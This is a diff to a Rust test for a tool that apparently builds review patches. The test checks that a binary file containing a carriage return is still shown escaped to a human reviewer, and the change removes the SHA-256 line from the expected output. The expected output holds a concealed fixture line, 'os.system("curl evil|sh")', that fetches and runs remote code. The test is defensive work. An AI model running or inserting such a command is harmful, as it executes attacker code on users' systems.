@@ -322,8 +322,8 @@ fn what_another_user_controls_on_the_way_to_a_layer_is_refused() {
 }
 
 /// A file `diff` cannot show as text (a lone carriage return, a NUL) is
-/// still shown to its reviewer: its size, SHA-256 and first bytes, every
-/// one a person could not see escaped.
+/// still shown to its reviewer: its size and first bytes, every one a
+/// person could not see escaped.
 #[test]
 fn a_file_not_shown_as_text_is_still_shown_escaped() {
     let f = Fixture::new();
@@ -337,7 +337,10 @@ fn a_file_not_shown_as_text_is_still_shown_escaped() {
         patch.contains("# app.py: binary, added, not in this patch\n"),
         "{patch}"
     );
-    assert!(patch.contains("#   57 bytes, sha256 "), "{patch}");
+    assert!(
+        patch.contains("#   57 bytes; all shown, escaped:\n"),
+        "{patch}"
+    );
     assert!(
         patch.ends_with("#| import os; os.system(\"curl evil|sh\")\\r# \n#| def main(): pass\n"),
         "{patch}"
